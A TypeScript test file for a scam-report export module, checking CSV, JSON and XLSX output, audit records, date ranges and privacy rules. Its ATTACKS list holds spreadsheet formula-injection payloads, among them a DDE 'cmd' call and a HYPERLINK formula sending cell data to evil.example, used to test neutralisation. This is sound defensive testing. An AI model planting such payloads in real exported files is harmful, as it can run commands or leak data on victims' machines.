import { readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import naughty from 'big-list-of-naughty-strings' with { type: 'json' }
import { parse } from 'csv-parse/sync'
import { stringify } from 'csv-stringify/sync'
import { unzipSync } from 'fflate'
import readWorkbook from 'read-excel-file/node'
import { describe, expect, test } from 'vitest'
import { inert, toCsv } from '../../src/reports/export/csv.ts'
import { type ExportFormat, exportReports } from '../../src/reports/export/export.ts'
import { writeExport } from '../../src/reports/export/write-file.ts'
import { createReports } from '../../src/reports/reports.ts'
import { verifyAudit } from '../../src/store/audit.ts'
import type { Store } from '../../src/store/open.ts'
import { temporaryFolder, temporaryStore } from '../store/temporary.ts'
import { file, NOON, newReport } from './filed.ts'

const COLUMNS = [
  'receipt',
  'filed_on',
  'filed_at',
  'status',
  'outcome',
  'destination',
  'signals',
  'language',
  'seen',
  'paid',
  'documents',
  'recruiter_contacts',
  'stage',
  'about',
  'type',
]
const HEADER = [...COLUMNS, 'export_v2']
const FORMATS: ExportFormat[] = ['csv', 'json', 'jsonl', 'xlsx']
/** Own variants of the attacks that OWASP's page on CSV injection describes. */
const ATTACKS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  'halo;=1+1',
  'halo;\u200b=1+1;',
  'halo\n=1+1',
  'halo\t=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
  '+62 812 0000 1111',
]

async function exported(
  store: Store,
  format: ExportFormat,
  more: Partial<Parameters<typeof exportReports>[0]> = {},
) {
  const out = join(temporaryFolder(), `out.${format}`)
  const options = { store, format, from: null, to: null, out, withText: false, actor: 'cli', now: () => NOON }
  const result = await exportReports({ ...options, ...more })
  return { out, result }
}
const rowsOf = (out: string) => parse(readFileSync(out), { bom: true }) as string[][]

describe.each(FORMATS)('%s', format => {
  test('is complete, private, and counted', async () => {
    const { store } = await temporaryStore()
    for (let i = 0; i < 3; i++) await file(store, i)
    const { out, result } = await exported(store, format)
    expect(result).toEqual({ rows: 3, bytes: statSync(out).size, unreadable: 0 })
    expect((statSync(out).mode & 0o777).toString(8)).toBe('600')
  })

  test('has no free text unless asked (E-02)', async () => {
    const { store } = await temporaryStore()
    await file(store, 1, { text: 'only-in-the-text' })
    const content = (out: string) =>
      format === 'xlsx'
        ? Object.values(unzipSync(readFileSync(out)))
            .map(part => Buffer.from(part).toString())
            .join()
        : readFileSync(out, 'utf8')
    expect(content((await exported(store, format)).out)).not.toContain('only-in-the-text')
    expect(content((await exported(store, format, { withText: true, reason: 'why' })).out)).toContain(
      'only-in-the-text',
    )
  })

  test('is a valid file when there is nothing to export', async () => {
    const { store } = await temporaryStore()
    const { out, result } = await exported(store, format)
    expect(result.rows).toBe(0)
    if (format === 'csv') expect(rowsOf(out)).toEqual([HEADER])
    if (format === 'json') expect(JSON.parse(readFileSync(out, 'utf8'))).toEqual([])
    if (format === 'xlsx') expect((await readWorkbook(out))[0]?.data).toEqual([HEADER])
  })

  test('leaves nothing behind when the audit cannot be written (A-02)', async () => {
    const { store } = await temporaryStore()
    await file(store, 1)
    await store.sql.schema.alterTable('audit').renameTo('gone').execute()
    const out = join(temporaryFolder(), 'x')
    await expect(exported(store, format, { out })).rejects.toThrow('audit')
    for (const path of [out, `${out}.part`]) expect(() => statSync(path)).toThrow('ENOENT')
  })
})

describe('what is exported', () => {
  test('the days are days in Jakarta, both inclusive', async () => {
    const { store } = await temporaryStore()
    const times = ['24T23:59:59', '25T00:00:00', '26T23:59:59', '27T00:00:00']
    for (const [i, time] of times.entries()) {
      await file(store, i, { language: String(i) }, Date.parse(`2026-11-${time}+07:00`))
    }
    const languages = async (from: string | null, to: string | null) =>
      rowsOf((await exported(store, 'csv', { from, to })).out)
        .slice(1)
        .map(row => row[7])
    expect(await languages('2026-11-25', '2026-11-26')).toEqual(['1', '2'])
    expect(await languages('2026-11-26', null)).toEqual(['2', '3'])
    expect(await languages(null, '2026-11-24')).toEqual(['0'])
    expect(await languages(null, null)).toEqual(['0', '1', '2', '3'])
    await expect(exported(store, 'csv', { from: '2026-02-30' })).rejects.toThrow(RangeError)
  })

  test('every report once, in order, also over many pages and in the same millisecond', async () => {
    const { store } = await temporaryStore()
    const receipts = new Set<string>()
    let at = NOON
    const reports = createReports(() => at)
    await store.transaction(async trx => {
      for (let i = 0; i < 1203; i++) {
        at = NOON + Math.floor(i / 700)
        receipts.add((await reports.file(trx, store.vault.personRef(i % 3), newReport())).receipt)
      }
    })
    const { out, result } = await exported(store, 'json')
    const rows = JSON.parse(readFileSync(out, 'utf8')) as { receipt: string; filed_at: string }[]
    expect(result.rows).toBe(1203)
    expect(new Set(rows.map(row => row.receipt))).toEqual(receipts)
  })

  test('withdrawn reports are not', async () => {
    const { store } = await temporaryStore()
    const { receipt } = await file(store, 1)
    await file(store, 2)
    const reports = createReports(() => NOON)
    await store.transaction(trx => reports.withdraw(trx, store.vault.personRef(1), receipt))
    const { out, result } = await exported(store, 'csv')
    expect(result.rows).toBe(1)
    expect(readFileSync(out, 'utf8')).not.toContain(receipt)
  })

  test('an altered row is left empty and counted, and the others come through', async () => {
    const { store } = await temporaryStore()
    const one = await file(store, 1)
    await file(store, 2)
    await store.sql
      .updateTable('reports')
      .set({ contacts: 'v1.k1.AAAA' })
      .where('receipt', '=', one.receipt)
      .execute()
    const { out, result } = await exported(store, 'csv')
    expect(result).toMatchObject({ rows: 2, unreadable: 1 })
    expect(rowsOf(out).find(row => row[0] === one.receipt)?.[11]).toBe('')
  })

  test('the audit says who, what and how much (A-01)', async () => {
    const { store } = await temporaryStore()
    await file(store, 1)
    const actor = store.vault.personRef(9)
    await exported(store, 'xlsx', { from: '2026-11-01', actor })
    const rows = await store.sql.selectFrom('audit').selectAll().execute()
    expect(rows).toMatchObject([{ actor, action: 'export', at: NOON }])
    const detail = { format: 'xlsx', from: '2026-11-01', to: null, text: 0, rows: 1, unreadable: 0 }
    expect(JSON.parse(rows[0]?.detail ?? '')).toEqual(detail)
    expect(await verifyAudit(store)).toEqual({ ok: true, rows: 1 })
  })
})

describe('which reports', () => {
  test('are chosen by status and by type', async () => {
    const { store } = await temporaryStore()
    for (const [i, status] of ['new', 'confirmed', 'not_a_scam', 'confirmed'].entries()) {
      const { receipt } = await file(store, i, {}, NOON + i)
      const change = { status, type: i === 3 ? 'fee_fraud' : null }
      await store.sql.updateTable('reports').set(change).where('receipt', '=', receipt).execute()
    }
    const statuses = async (more: Partial<Parameters<typeof exportReports>[0]>) =>
      rowsOf((await exported(store, 'csv', more)).out)
        .slice(1)
        .map(row => `${row[3]} ${row[14]}`)
    expect(await statuses({ statuses: ['confirmed', 'new'] })).toEqual([
      'new ',
      'confirmed ',
      'confirmed fee_fraud',
    ])
    expect(await statuses({ types: ['fee_fraud'] })).toEqual(['confirmed fee_fraud'])
    expect(await statuses({ statuses: ['new'], types: ['fee_fraud'] })).toEqual([])
    const rows = await store.sql.selectFrom('audit').select('detail').execute()
    expect(JSON.parse(rows[0]?.detail ?? '')).toMatchObject({ statuses: 'confirmed new' })
  })

  test('free text without a reason is not exported; with one, the reason is in the audit (E-02)', async () => {
    const { store } = await temporaryStore()
    await file(store, 1)
    await expect(exported(store, 'csv', { withText: true })).rejects.toThrow('reason')
    await expect(exported(store, 'csv', { withText: true, reason: ' ' })).rejects.toThrow('reason')
    await exported(store, 'csv', { withText: true, reason: 'asked for by investigators' })
    const rows = await store.sql.selectFrom('audit').select('detail').execute()
    expect(rows.map(row => JSON.parse(row.detail))).toMatchObject([
      { text: 1, reason: 'asked for by investigators' },
    ])
  })

  test('a large export is written in a thread, all of it, while the event loop goes round', async () => {
    const { store } = await temporaryStore()
    const reports = createReports(() => NOON)
    await store.transaction(async trx => {
      for (let i = 0; i < 2500; i++) await reports.file(trx, store.vault.personRef(i % 50), newReport())
    })
    let rounds = 0
    const timer = setInterval(() => rounds++, 1)
    const { out, result } = await exported(store, 'csv')
    clearInterval(timer)
    expect(result).toMatchObject({ rows: 2500, unreadable: 0 })
    expect(rowsOf(out)).toHaveLength(2501)
    expect(
      new Set(
        rowsOf(out)
          .slice(1)
          .map(row => row[0]),
      ).size,
    ).toBe(2500)
    expect(rounds).toBeGreaterThan(20)
    const alone = join(temporaryFolder(), 'alone.csv')
    const selection = { from: null, to: null }
    await writeExport(store, { format: 'csv', selection, withText: false, to: alone }, () => {})
    expect(readFileSync(out).equals(readFileSync(alone)), 'as one writer writes it').toBe(true)
    await expect(exported(store, 'csv', { out: '/nowhere/x.csv' })).rejects.toThrow('ENOENT')
  })
})

describe('json lines', () => {
  test('are objects, one a line, that say their version', async () => {
    const { store } = await temporaryStore()
    for (const person of [1, 2]) await file(store, person, { contacts: ['@agen\n"x"'] })
    const lines = readFileSync((await exported(store, 'jsonl')).out, 'utf8').split('\n')
    expect(lines.pop()).toBe('')
    const objects = lines.map(line => JSON.parse(line) as Record<string, unknown>)
    expect(objects).toHaveLength(2)
    expect(Object.keys(objects[0] ?? {})).toEqual(['export_version', ...COLUMNS])
    expect(objects[0]).toMatchObject({ export_version: 2, recruiter_contacts: ['@agen\n"x"'] })
  })
})

async function* pageOf<T>(records: readonly T[]): AsyncGenerator<readonly T[]> {
  yield records
}

describe('csv', () => {
  test('starts with a byte order mark, quotes every field, ends lines in CR LF', async () => {
    const { store } = await temporaryStore()
    await file(store, 1)
    const text = readFileSync((await exported(store, 'csv')).out, 'utf8')
    expect(text.startsWith('\uFEFF"receipt","filed_on"')).toBe(true)
    expect(text.endsWith('"\r\n')).toBe(true)
    expect(text).toContain('"","","","')
  })

  test('is written as csv-stringify would, whatever the cells', async () => {
    const cells = [...ATTACKS, ...(naughty as string[]), 'a "quoted" word', '"', 'a,b', '']
    const columns = [0, 1].map(n => ({
      name: `c"${n}`,
      width: 1,
      of: (r: { text: string | null }) => r.text,
    }))
    const records = cells.map(text => ({ text })) as never[]
    let written = ''
    for await (const part of toCsv(pageOf(records), columns)) written += part
    const rows = [columns.map(({ name }) => name), ...cells.map(cell => [inert(cell), inert(cell)])]
    const library = stringify(rows, {
      quoted: true,
      quoted_empty: true,
      escape_formulas: true,
      record_delimiter: 'windows',
    })
    expect(written).toBe(`\uFEFF${library}`)
  })

  test('the columns and how their values are written', async () => {
    const { store } = await temporaryStore()
    const reports = createReports(() => NOON)
    const { receipt } = await file(store, 1, { contacts: ['agen.example', '@agen'] })
    const details = { seen: 'whatsapp', paid: true, destination: 'MM' } as const
    await store.transaction(trx => reports.addDetails(trx, store.vault.personRef(1), receipt, details))
    await store.sql
      .updateTable('reports')
      .set({ type: 'fee_fraud', about: 'job_offer', stage: 'paid' })
      .execute()
    expect(rowsOf((await exported(store, 'csv')).out)).toEqual([
      HEADER,
      [
        receipt,
        '2026-11-25',
        '2026-11-25T10:00:00+07:00',
        'new',
        'likely_scam',
        'MM',
        'salary-high, ticket-paid',
        'id',
        'whatsapp',
        'true',
        '',
        'agen.example, @agen',
        'paid',
        'job_offer',
        'fee_fraud',
        '',
      ],
    ])
  })

  test.each(ATTACKS)('%j is not computed (E-01)', attack => {
    const cell = inert(attack)
    // What a spreadsheet takes for the start of a cell: the field itself, and after each separator and line end.
    for (const start of cell.split(/[;\t\r\n]/))
      expect(start).not.toMatch(/^[\s\p{Cf}\p{Cc}]*[=+\-@＝＋－＠]/u)
    expect(cell).not.toMatch(/^[\t\r\n\0]/)
    expect(cell.replaceAll("'", '')).toBe(attack.replaceAll('\0', '').replaceAll("'", ''))
  })

  test.each(['biasa saja', 'gaji 15-20 juta', 'a=b', 'email@example.org', 'satu\ndua', ''])(
    '%j stays as it is',
    text => {
      expect(inert(text)).toBe(text)
    },
  )

  test('an account of digits alone keeps its zeros in a spreadsheet', async () => {
    const { store } = await temporaryStore()
    await file(store, 1, { contacts: ['003301001234567'] })
    const [, row] = rowsOf((await exported(store, 'csv')).out)
    expect(row?.[11]).toBe("'003301001234567")
  })

  test('attacks survive the file as text, one cell each', async () => {
    const { store } = await temporaryStore()
    for (const [i, text] of ATTACKS.entries()) await file(store, i, { text, contacts: [text] }, NOON + i)
    const rows = rowsOf((await exported(store, 'csv', { withText: true, reason: 'why' })).out).slice(1)
    expect(rows.map(row => row[15])).toEqual(ATTACKS.map(inert))
    expect(rows.map(row => row[11])).toEqual(ATTACKS.map(inert))
  })
})

describe('json', () => {
  test('keeps lists, flags and texts as they are', async () => {
    const { store } = await temporaryStore()
    await file(store, 1, { text: '=1+1 "kutip"\n🙂' })
    const { out } = await exported(store, 'json', { withText: true, reason: 'why' })
    expect(JSON.parse(readFileSync(out, 'utf8'))).toMatchObject([
      {
        signals: ['salary-high', 'ticket-paid'],
        paid: null,
        text: '=1+1 "kutip"\n🙂',
        filed_on: '2026-11-25',
      },
    ])
  })
})

describe('xlsx', () => {
  test('texts are texts, dates are dates, nothing is a formula (E-01)', async () => {
    const { store } = await temporaryStore()
    for (const [i, text] of ATTACKS.entries()) await file(store, i, { text, contacts: [text] }, NOON + i)
    const { out } = await exported(store, 'xlsx', { withText: true, reason: 'why' })
    const sheet = (await readWorkbook(out))[0]?.data ?? []
    expect(sheet[0]).toEqual([...COLUMNS, 'text', 'export_v2'])
    expect(sheet[1]?.[1]).toEqual(new Date('2026-11-25T00:00:00Z'))
    expect(sheet[1]?.[2]).toEqual(new Date('2026-11-25T10:00:00Z'))
    const parts = unzipSync(readFileSync(out))
    const xml = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? []).toString()
    expect(xml).not.toMatch(/<f[ >/]/)
    expect(xml).toContain('state="frozen"')
    expect(xml).toContain(`<autoFilter ref="A1:Q${ATTACKS.length + 1}"/>`)
    expect(sheet.slice(1).map(row => String(row[15]).trim())).toEqual(
      ATTACKS.map(text => text.replaceAll('\0', '').trim()),
    )
  })

  test('holds whatever people type', async () => {
    const { store } = await temporaryStore()
    const text = '<b>&amp;"\u0001\ud800 _x0041_ 🙂 ]]>'
    await file(store, 1, { text: text + 'x'.repeat(40_000) })
    const { out } = await exported(store, 'xlsx', { withText: true, reason: 'why' })
    const cell = String((await readWorkbook(out))[0]?.data[1]?.[15])
    const xml = Buffer.from(unzipSync(readFileSync(out))['xl/worksheets/sheet1.xml'] ?? []).toString()
    expect(xml).toContain('_x005F_x0041_')
    expect(cell).toContain('<b>&amp;"\ufffd ')
    expect(cell.length).toBeLessThanOrEqual(32_767 + '_x005F'.length)
  })
})

test('an older file is replaced only when the new one is whole', async () => {
  const { store } = await temporaryStore()
  const out = join(temporaryFolder(), 'x.csv')
  writeFileSync(out, 'older')
  await expect(exported(store, 'csv', { out, from: 'never' })).rejects.toThrow(RangeError)
  expect(readFileSync(out, 'utf8')).toBe('older')
  await exported(store, 'csv', { out })
  expect(readFileSync(out, 'utf8')).toContain('receipt')
})
